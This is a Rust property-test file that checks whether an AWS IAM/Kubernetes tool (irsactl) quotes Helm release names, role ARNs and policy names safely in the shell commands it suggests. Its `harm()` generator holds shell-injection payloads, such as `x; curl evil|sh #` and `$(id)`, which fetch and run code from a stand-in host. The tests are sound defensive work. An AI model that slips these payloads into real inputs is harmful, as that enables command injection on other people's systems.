//! Commands in hints: whoever pastes one runs that command, whatever others named their things.

use std::collections::BTreeMap;
use std::process::Command;

use proptest::prelude::*;
use serde_json::{Value, json};

use irsactl::aws::cloudformation::Stack;
use irsactl::aws::iam::Role;
use irsactl::externaldns::reproduce::{Reproduction, RoleFacts, role_words};
use irsactl::externaldns::settings::Settings;
use irsactl::iam::arn::{Arn, Partition};
use irsactl::iam::policy::{Need, PolicyDocument};
use irsactl::iam::trust::{Issuer, Subject, trust_policy};
use irsactl::plan::Plan;
use irsactl::plan::externaldns::guards;
use irsactl::plan::iamserviceaccount::{ObservedStack, ROLE_ANNOTATION, ROLE_OUTPUT};
use irsactl::verify::chain::{Hop, Irsa, Live};
use irsactl::verify::permissions::{Demand, Holder, Lack, Policies, Why};
use irsactl::verify::{Commands, ids};

use crate::inputs::text;
use crate::property::holds;

const ACCOUNT: &str = "111122223333";
const CONSENT: &str = "--override-existing-serviceaccounts";

/// What a name or the end of an ARN may be in the hands of somebody who means harm.
fn harm() -> impl Strategy<Value = String> {
    let evil = prop_oneof![
        Just("x; curl evil|sh #".to_owned()),
        Just("x;curl${IFS}evil|sh".to_owned()),
        Just("$(id)`id`'\"&&>x".to_owned()),
        Just("it's --approve\n'".to_owned()),
        text(),
    ];
    // What no argument can hold.
    evil.prop_map(|text| text.replace('\0', ""))
}

/// The words of a command as a shell sees them: nothing is run, and nothing is written.
fn words(command: &str) -> Vec<String> {
    let mut shell = Command::new("/bin/bash");
    shell.args(["--restricted", "-c", &format!("printf '%s\\0' {command}")]).env_clear().env("PATH", "/nonexistent");
    let output = shell.output().unwrap();
    assert!(output.status.success() && output.stderr.is_empty(), "{command}: {output:?}");
    let text = String::from_utf8(output.stdout).unwrap();
    text.strip_suffix('\0').unwrap().split('\0').map(str::to_owned).collect()
}

/// The command of a hint, without what is said before it.
fn command(hint: &str) -> Vec<String> {
    let tools = ["irsactl ", "aws ", "kubectl ", "helm "];
    let at = tools.iter().filter_map(|tool| hint.find(tool)).min().unwrap();
    words(&hint[at..])
}

fn value<'w>(words: &'w [String], flag: &str) -> &'w str {
    let at = words.iter().position(|word| word == flag).unwrap_or_else(|| panic!("no {flag} in {words:?}"));
    &words[at + 1]
}

#[test]
fn a_helm_release_is_one_word() {
    holds("releases of Helm", harm(), |release| {
        let container = json!({"image": "registry.k8s.io/external-dns/external-dns:v0.23.0", "args": []});
        let other = json!({
            "metadata": {"name": "dns", "namespace": "n", "annotations": {"meta.helm.sh/release-name": release}},
            "spec": {"template": {"spec": {"containers": [container]}}},
        });
        let (mut plan, settings) = (Plan::new(Some("c"), "us-west-2", ACCOUNT), Settings::new("us-west-2", "default"));
        let refused = guards::installations(&mut plan, &settings, "c", false, &[other]).unwrap_err();
        let hint = refused.hint.unwrap();
        let (_, hint) = hint.split_once("remove it: ").unwrap();
        prop_assert_eq!(words(hint), ["helm", "uninstall", &release, "--namespace", "n"]);
        Ok(())
    });
}

fn stack(role: &str, policy: &str, boundary: &str) -> ObservedStack {
    let properties = json!({"ManagedPolicyArns": [policy, policy], "PermissionsBoundary": boundary});
    let template = json!({"Resources": {"Role1": {"Type": "AWS::IAM::Role", "Properties": properties}}});
    let outputs = [(ROLE_OUTPUT.to_owned(), role.to_owned())].into();
    ObservedStack { stack: Stack { outputs, ..Stack::default() }, template, role: None, failure: None }
}

#[test]
fn what_a_role_is_made_of_is_one_word_each() {
    holds("roles to be installed again", (harm(), harm(), harm()), |(role, policy, boundary)| {
        let install = |facts: &RoleFacts<'_>| {
            let role = role_words("us-west-2", "c", "dns", facts);
            let patch = json!({"kind": "Deployment", "metadata": {"annotations": {"a": facts.named}}});
            let install = Reproduction {
                cluster: "c",
                region: "us-west-2",
                namespace: "n",
                name: "dns",
                installed: None,
                role: &role,
                patch: Some(&patch),
            };
            let words = words(&install.command(|_, _| false, &[]));
            assert_eq!(value(&words, "--patch"), patch.to_string());
            words
        };
        let facts = RoleFacts { shared: "Shared", named: Some(&role), ..RoleFacts::default() };
        let words = install(&facts);
        prop_assert_eq!(value(&words, "--role-arn"), role.trim());
        let (policy, boundary) = (format!("arn:{policy}"), format!("arn:{boundary}"));
        let found = stack(&role, &policy, &boundary);
        let words = install(&RoleFacts { stack: Some(&found), ..facts });
        prop_assert_eq!(value(&words, "--attach-policy-arn"), format!("{policy},{policy}"));
        prop_assert_eq!(value(&words, "--permissions-boundary"), boundary);
        prop_assert!(!words.contains(&"--approve".to_owned()), "nothing tells what it was told");
        Ok(())
    });
}

fn irsa(role_arn: &str) -> Irsa {
    let nobody = PolicyDocument(json!({"Version": "2012-10-17", "Statement": []}));
    let arn = format!("arn:aws:iam::{ACCOUNT}:role/r");
    let role = Role {
        name: "r".to_owned(),
        arn,
        path: "/".to_owned(),
        trust: nobody,
        boundary: None,
        tags: BTreeMap::new(),
        created: 0,
    };
    let account = json!({"metadata": {"name": "dns", "namespace": "n", "annotations": {ROLE_ANNOTATION: role_arn}}});
    Irsa {
        commands: Commands { cluster: "c".to_owned(), region: "us-west-2".to_owned() },
        account: ACCOUNT.to_owned(),
        partition: Partition::aws(),
        issuer: Issuer::parse("https://oidc.example.com/id/A").unwrap(),
        namespace: "n".to_owned(),
        name: "dns".to_owned(),
        provider: Err("not read".to_owned()),
        twins: Ok(Vec::new()),
        stack: Ok(None),
        service_account: Ok(Some(account)),
        association: Ok(None),
        role: Ok(Some(role)),
        demand: Demand::default(),
        lacking: Ok(Vec::new()),
        unread: None,
        policies: Ok(Policies::default()),
        verify: "irsactl verify iamserviceaccount".to_owned(),
        install: None,
        make: None,
        pods: Ok(Vec::<Value>::new()),
        deployment: None,
        live: Live::LeftOut,
    }
}

fn hint(irsa: &Irsa, id: &str) -> Option<Vec<String>> {
    let check = irsa.checks().into_iter().find(|check| check.id == id).unwrap();
    check.hint.map(|hint| command(&hint))
}

#[test]
fn what_verify_found_is_one_word_each() {
    holds("broken links", (harm(), harm()), |(end, other)| {
        // A role of another partition: with it corrected, the ServiceAccount would name the right one.
        let named = format!("arn:aws-cn:iam::{ACCOUNT}:role/{end}");
        let mut broken = irsa(&named);
        broken.role.as_mut().unwrap().as_mut().unwrap().arn = named.trim().to_owned();
        let said = hint(&broken, ids::SERVICE_ACCOUNT).unwrap();
        let expected = match named.parse::<Arn>() {
            Ok(_) => named.replacen("aws-cn", "aws", 1),
            Err(_) if named != named.trim() => named.trim().to_owned(),
            // It is no ARN: another role has to be made.
            Err(_) => "POLICY_ARN".to_owned(),
        };
        prop_assert_eq!(said.iter().rev().nth(1 + usize::from(said.contains(&CONSENT.to_owned()))), Some(&expected));
        // Policies that deny what is needed.
        let why = |holder| Why::Denied(Some(holder));
        for (holder, flag) in
            [(Holder::Inline(other.clone()), "--policy-name"), (Holder::Managed(other.clone()), "--policy-arn")]
        {
            let mut denied = irsa(&format!("arn:aws:iam::{ACCOUNT}:role/r"));
            denied.lacking = Ok(vec![Lack { need: Need::new("s3:GetObject", "*"), why: why(holder) }]);
            let said = hint(&denied, ids::PERMISSIONS).unwrap();
            prop_assert_eq!((said.len(), value(&said, flag)), (7, other.as_str()));
        }
        // The role that ExternalDNS is told to assume.
        let Ok(role) = format!("arn:aws:iam::{ACCOUNT}:role/{end}").parse::<Arn>() else { return Ok(()) };
        let name = role.name().to_owned();
        let mut hop = irsa(&format!("arn:aws:iam::{ACCOUNT}:role/r"));
        hop.role.as_mut().unwrap().as_mut().unwrap().trust = trusting();
        for trust in [None, Some(PolicyDocument(json!({"Statement": [{"Sid": other}]})))] {
            let external_id = Some(other.clone());
            hop.live = Live::HopRefused {
                hop: Hop { role: role.clone(), external_id },
                said: String::new(),
                trust: Ok(trust),
            };
            let said = hint(&hop, ids::ASSUME_ROLE).unwrap();
            prop_assert_eq!((said.len(), value(&said, "--role-name")), (7, name.as_str()));
        }
        Ok(())
    });
}

fn trusting() -> PolicyDocument {
    let subject = Subject::exact("n", "dns");
    let issuer = Issuer::parse("https://oidc.example.com/id/A").unwrap();
    trust_policy(&issuer, &Partition::aws(), ACCOUNT, Some(&subject))
}
